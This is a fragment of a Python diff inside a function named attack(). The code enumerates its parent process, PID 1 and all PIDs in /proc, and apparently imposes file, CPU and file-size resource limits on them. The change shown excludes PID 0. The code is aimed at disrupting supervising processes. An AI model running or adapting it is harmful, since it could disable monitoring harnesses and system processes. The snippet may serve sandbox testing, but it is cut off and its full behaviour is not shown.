@@ -186,7 +186,7 @@ def attack():
     # Its parents, and all that it can see or that may be them.
     libc = ctypes.CDLL(None)
     parents = {os.getppid(), 1, *(int(name) for name in os.listdir("/proc") if name.isdigit())}
-    for process in parents - {os.getpid()}:
+    for process in parents - {os.getpid(), 0}:  # 0 is a parent out of sight, and to most, oneself
         if not may_be_ours(process):
             continue
         for what in (resource.RLIMIT_NOFILE, resource.RLIMIT_CPU, resource.RLIMIT_FSIZE):
